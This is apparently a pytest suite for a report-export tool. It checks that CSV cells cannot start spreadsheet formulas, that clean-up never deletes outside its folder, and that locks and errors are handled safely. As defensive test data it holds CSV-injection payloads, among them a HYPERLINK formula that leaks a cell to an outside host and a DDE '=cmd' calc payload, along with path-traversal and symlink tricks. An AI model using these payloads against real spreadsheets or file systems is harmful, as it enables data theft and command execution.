"""Outputs are safe to open and to rerun: CSV text cells never start a spreadsheet formula, ``$...$`` in a name is
drawn as it is written, stale-figure clean-up deletes only the tool's own files inside the figures folder, a damaged
index is rebuilt with a warning, the lock lives in the figures folder, and an unwritable output folder gives one
clear message (exit status 2 from the command line)."""
from __future__ import annotations

import csv
import os
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor

import matplotlib.pyplot as plt
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import ROOT, article, row
from helpers.__main__ import main
from helpers.files import OutputFolderError, ensure_folder, neutralise_csv_cells, restore_csv_cells, write_atomic
from helpers.report.figures import LOCK_FILE, DamagedIndex, FigureWriter, read_index, write_csv

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           "'=already quoted", "-5", "plain text", "it's fine", ""]


def read_rows(path):
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def writer(folder, notebook="09_test", fingerprint="abc"):
    return FigureWriter(notebook=notebook, fingerprint=fingerprint, folder=folder, show=False)


# ===== CSV formula neutralisation =====
def test_text_cells_are_neutralised_and_numbers_untouched(tmp_path):
    frame = pd.DataFrame({"text": HOSTILE, "count": range(-5, 6), "share": [-0.25] * 11, "flag": [True] * 11,
                          "mixed": [-3, "-3", 1.5, None, "=x", "@", "ok", 0, "+", "'-", "''+"]})
    before = frame.copy()
    write_csv(frame, tmp_path / "t.csv")
    pd.testing.assert_frame_equal(frame, before)  # the caller's frame is not changed
    rows = read_rows(tmp_path / "t.csv")
    assert rows[0] == ["text", "count", "share", "flag", "mixed"]
    body = rows[1:]
    assert [r[0] for r in body] == ["'" + t if t and t.lstrip("'")[:1] in TRIGGERS else t for t in HOSTILE]
    assert [r[1] for r in body] == [str(n) for n in range(-5, 6)]  # a negative number stays a number
    assert {r[2] for r in body} == {"-0.25"} and {r[3] for r in body} == {"True"}
    assert [r[4] for r in body] == ["-3", "'-3", "1.5", "", "'=x", "'@", "ok", "0", "'+", "''-", "'''+"]


def test_neutralising_is_undone_exactly_and_covers_column_names():
    frame = pd.DataFrame({"=name": HOSTILE, "n": range(11)})
    frame["cat"] = pd.Categorical(["-a"] * 5 + ["b"] * 6)
    safe = neutralise_csv_cells(frame)
    assert list(safe.columns) == ["'=name", "n", "cat"] and safe["cat"].iloc[0] == "'-a"
    restored = restore_csv_cells(safe)
    assert list(restored.columns) == list(frame.columns)
    assert restored["=name"].tolist() == HOSTILE and restored["cat"].astype(str).tolist() == frame["cat"].astype(str).tolist()


def test_duplicate_names_and_index_labels_and_string_dtypes(tmp_path):
    frame = pd.DataFrame([["=a", "-b", 1], ["ok", "@c", -2]], columns=["x", "x", "n"], index=[5, 5])
    frame["s"] = pd.array(["+d", None], dtype="string")
    write_csv(frame, tmp_path / "d.csv")
    assert read_rows(tmp_path / "d.csv") == [["x", "x", "n", "s"], ["'=a", "'-b", "1", "'+d"], ["ok", "'@c", "-2", ""]]
    assert frame.iloc[0].tolist() == ["=a", "-b", 1, "+d"]


def test_export_output_is_neutralised(make_corpus, tmp_path, capsys):
    hostile_title = '=HYPERLINK("http://example.invalid","Read")'
    folder = make_corpus({"a.txt": article(hostile_title), "b.txt": article("-Minus headline")},
                         rows=[row("a.txt", outlet="@Evil Outlet", title=hostile_title, notes="+notes"),
                               row("b.txt", outlet="Fine Outlet", notes="-minus note")])
    out = tmp_path / "out" / "nested"  # a missing output folder is created
    assert main(["export", str(folder), str(out)]) == 0
    articles = {r["file"]: r for r in csv.DictReader(open(out / "articles.csv", encoding="utf-8", newline=""))}
    assert articles["a.txt"]["title"] == "'" + hostile_title and articles["a.txt"]["outlet"] == "'@Evil Outlet"
    assert articles["a.txt"]["notes"] == "'+notes" and articles["b.txt"]["notes"] == "'-minus note"
    for path in out.glob("*.csv"):
        table = pd.read_csv(path, keep_default_na=False)
        for column in table.columns:
            if not pd.api.types.is_numeric_dtype(table[column]):
                cells = table[column].astype(str)
                assert not cells.str.startswith(TRIGGERS).any(), (path.name, column)


def test_figure_data_table_and_index_csvs_are_neutralised(tmp_path):
    figures = writer(tmp_path)
    data = pd.DataFrame({"outlet": ["=cmd|' /C calc'!A0", "Daily"], "value": [-3, 2]})
    fig, ax = plt.subplots(figsize=(4, 2))
    ax.barh(data["outlet"], data["value"])
    figures.save(fig, data, "hostile", "-caption that looks like a formula")
    figures.save_table(pd.DataFrame({"file": ["@a.txt"], "n": [-1]}), "table", "=SUM(1)")
    figures.finish()
    assert read_rows(tmp_path / "09_hostile.csv") == [["outlet", "value"], ["'=cmd|' /C calc'!A0", "-3"], ["Daily", "2"]]
    assert read_rows(tmp_path / "09_table.csv") == [["file", "n"], ["'@a.txt", "-1"]]
    index = read_index(tmp_path / "index.csv")
    assert index["caption"].tolist() == ["'-caption that looks like a formula", "'=SUM(1)"]
    assert data["outlet"].iloc[0] == "=cmd|' /C calc'!A0"  # the caller's frame is unchanged


text_cell = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=12)
prefixed = st.tuples(st.sampled_from(["", "'", "''", *TRIGGERS]), st.sampled_from(["", *TRIGGERS]), text_cell).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(prefixed, prefixed | text_cell, st.integers(-10**6, 10**6)), min_size=1, max_size=8))
def test_no_text_cell_read_back_starts_a_formula(tmp_path, cells):
    frame = pd.DataFrame(cells, columns=["a", "b", "n"])
    path = tmp_path / "p.csv"
    write_csv(frame, path)
    back = pd.read_csv(path, keep_default_na=False)
    for column in ("a", "b"):
        if not pd.api.types.is_numeric_dtype(back[column]):
            assert not any(isinstance(v, str) and v.startswith(TRIGGERS) for v in back[column]), back[column].tolist()
    assert back["n"].tolist() == frame["n"].tolist()
    text = restore_csv_cells(pd.read_csv(path, dtype=str, keep_default_na=False))
    assert text[["a", "b"]].values.tolist() == frame[["a", "b"]].values.tolist()  # exactly undone


# ===== no mathtext =====
def test_dollar_signs_are_drawn_literally(tmp_path):
    outlets = ["Big $x^2$ News", r"Broken $\frac{$ Daily", "Cost $5 and $10"]
    fig, ax = plt.subplots(figsize=(5, 2))
    ax.barh(outlets, [1, 2, 3])
    ax.set_title(r"Made before the style: $\sqrt{$", parse_math=True)  # would fail to parse as mathtext
    writer(tmp_path).save(fig, pd.DataFrame({"outlet": outlets, "n": [1, 2, 3]}), "dollars", "Outlets with $ signs.")
    svg = (tmp_path / "09_dollars.svg").read_text(encoding="utf-8")
    for name in [*outlets, r"Made before the style: $\sqrt{$"]:
        assert name in svg  # the SVG names each text it draws as paths, as written
    assert plt.rcParams["text.parse_math"] is False


# ===== clean-up deletes only what the tool created =====
def test_crafted_index_rows_and_links_never_delete_outside(tmp_path):
    folder, outside = tmp_path / "figures", tmp_path / "outside"
    folder.mkdir()
    (outside / "sub").mkdir(parents=True)
    victims = [tmp_path / "x.png", outside / "09_victim.png", outside / "sub" / "09_deep.csv", outside / "target.txt"]
    for victim in victims:
        victim.write_text("keep me", encoding="utf-8")
    (folder / "09_link.png").symlink_to(outside / "09_victim.png")
    (folder / "09_dirlink").symlink_to(outside / "sub")
    (folder / "09_old.png").write_text("stale", encoding="utf-8")
    (folder / "09_old.csv").write_text("stale", encoding="utf-8")
    (folder / "09_folder.png").mkdir()
    (folder / "09_loop.png").symlink_to(folder / "09_loop.png")
    (folder / "01_other.png").write_text("another notebook's", encoding="utf-8")
    stems = ["../x", str(tmp_path / "x"), "sub/../../x", "09_link", "09_dirlink/09_deep", "../outside/09_victim",
             "09_old", "09_folder", "09_loop", "01_other", "09_../../x", "09_x\n", ""]
    with open(folder / "index.csv", "w", encoding="utf-8", newline="") as handle:
        out = csv.writer(handle, lineterminator="\n")
        out.writerow(["file", "notebook", "caption", "formats", "data", "corpus_fingerprint"])
        out.writerows([stem, "09_test.ipynb", "crafted", "png", f"{stem}.csv", "abc"] for stem in stems)
    figures = writer(folder)
    figures.save_table(pd.DataFrame({"a": [1]}), "kept", "A table.")
    figures.finish()
    assert all(v.read_text(encoding="utf-8") == "keep me" for v in victims)  # nothing outside touched
    assert (folder / "09_link.png").is_symlink() and (folder / "09_dirlink").is_symlink()  # links left alone
    assert not (folder / "09_old.png").exists() and not (folder / "09_old.csv").exists()  # the real stale figure goes
    assert (folder / "09_folder.png").is_dir() and (folder / "01_other.png").is_file() and (folder / "09_loop.png").is_symlink()
    assert read_index(folder / "index.csv")["file"].tolist() == ["09_kept"]


def test_figure_names_that_clean_up_could_not_recognise_are_refused(tmp_path):
    for name in ("../escape", "sub/name", "with-dash", "x.png"):
        fig, _ = plt.subplots(figsize=(3, 2))
        with pytest.raises(ValueError, match="letters, digits and _ only"):
            writer(tmp_path).save(fig, pd.DataFrame({"a": [1]}), name, "Bad name.")
        assert not plt.fignum_exists(fig.number)
        with pytest.raises(ValueError, match="letters, digits and _ only"):
            writer(tmp_path).save_table(pd.DataFrame({"a": [1]}), name, "Bad name.")
    assert list(tmp_path.iterdir()) == []


# ===== damaged index, lock =====
GOOD = "file,notebook,caption,formats,data,corpus_fingerprint\n01_a,01_x.ipynb,A figure,png,01_a.csv,f\n"


@pytest.mark.parametrize("content", [
    GOOD[:-9].encode(),  # truncated mid-row
    GOOD.encode()[:60],  # truncated in the header
    b"\xff\xfe\x00garbage\x00\n",  # not text
    b"",  # empty
    b"name,caption\n01_a,A figure\n",  # other columns
    b'"file\nwith\nlines",notebook\n',  # other columns, over several lines (the warning stays one line)
    GOOD.replace("A figure", '"unterminated').encode(),  # an open quote
    (GOOD + "01_b,01_x.ipynb,extra,png,01_b.csv,f,surplus\n").encode(),  # a row with too many fields
])
def test_a_damaged_index_is_rebuilt_with_a_warning(tmp_path, capsys, content):
    (tmp_path / "index.csv").write_bytes(content)
    with pytest.raises(DamagedIndex):
        read_index(tmp_path / "index.csv")
    figures = writer(tmp_path)
    figures.save_table(pd.DataFrame({"a": [1]}), "kept", "A table.")
    figures.finish()
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("warning: ") and "damaged" in err and "Traceback" not in err
    assert read_index(tmp_path / "index.csv")["file"].tolist() == ["09_kept"]


def test_the_lock_is_in_the_figures_folder_and_removed(tmp_path, monkeypatch):
    folder = tmp_path / "figures"
    opened = []
    real_open = os.open

    def spy(path, flags, *args, **kwargs):
        if flags & os.O_CREAT:
            opened.append(os.path.abspath(path))
        return real_open(path, flags, *args, **kwargs)

    figures = writer(folder)
    figures.save_table(pd.DataFrame({"a": [1]}), "t", "A table.")
    monkeypatch.setattr(os, "open", spy)
    figures.finish()
    monkeypatch.undo()
    assert str(folder / LOCK_FILE) in opened
    assert all(os.path.dirname(p) == str(folder) for p in opened), opened  # nothing created anywhere else
    assert not (folder / LOCK_FILE).exists()


def test_a_link_planted_as_the_lock_is_refused(tmp_path):
    target = tmp_path / "target.txt"
    target.write_text("keep me", encoding="utf-8")
    folder = tmp_path / "figures"
    folder.mkdir()
    (folder / LOCK_FILE).symlink_to(target)
    with pytest.raises(OutputFolderError, match="is a link"):
        writer(folder).finish()
    assert target.read_text(encoding="utf-8") == "keep me"


def test_notebooks_finishing_together_keep_every_row(tmp_path):
    def run(n: int) -> None:
        figures = writer(tmp_path, notebook=f"{n:02d}_nb")
        figures.save_table(pd.DataFrame({"a": [n]}), "table", f"Table {n}.")
        figures.finish()

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(run, range(24)))
    assert read_index(tmp_path / "index.csv")["file"].tolist() == [f"{n:02d}_table" for n in range(24)]
    assert not (tmp_path / LOCK_FILE).exists()


# ===== unwritable output folders =====
def read_only(folder):
    folder.mkdir(parents=True, exist_ok=True)
    folder.chmod(0o500)
    if os.access(folder, os.W_OK):
        folder.chmod(0o700)
        pytest.skip("running as a user that can write read-only folders (root)")
    return folder


def test_a_read_only_folder_gives_one_clear_message(tmp_path, make_corpus, capsys):
    folder = read_only(tmp_path / "locked")
    try:
        with pytest.raises(OutputFolderError, match=f"output folder {folder} is not writable: make it writable"):
            writer(folder).save_table(pd.DataFrame({"a": [1]}), "t", "A table.")
        with pytest.raises(OutputFolderError, match="not writable"):
            write_atomic(folder / "x.txt", "text")
        corpus = make_corpus({"a.txt": article()}, rows=[row("a.txt")])
        assert main(["export", str(corpus), str(folder)]) == 2
        err = capsys.readouterr().err
        assert err == f"error: output folder {folder} is not writable: make it writable (chmod u+w '{folder}') " \
                      "or choose another output folder\n"
        assert main(["reader", str(corpus), str(folder / "reader")]) == 2
        assert f"cannot create output folder {folder / 'reader'}" in capsys.readouterr().err
    finally:
        folder.chmod(0o700)
    assert list(folder.iterdir()) == []


def test_a_file_where_the_folder_should_be(tmp_path, make_corpus):
    corpus = make_corpus({"a.txt": article()}, rows=[row("a.txt")])
    blocker = tmp_path / "out.csv"
    blocker.write_text("not a folder", encoding="utf-8")
    with pytest.raises(OutputFolderError, match="is a file, not a folder"):
        ensure_folder(blocker)
    with pytest.raises(OutputFolderError, match="part of its path is a file"):
        ensure_folder(blocker / "sub")
    result = subprocess.run([sys.executable, "-m", "helpers", "export", str(corpus), str(blocker)],
                            capture_output=True, text=True, cwd=ROOT)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr == f"error: output folder {blocker} is a file, not a folder: move or rename that file, " \
                            "or choose another output folder\n"
    assert blocker.read_text(encoding="utf-8") == "not a folder"
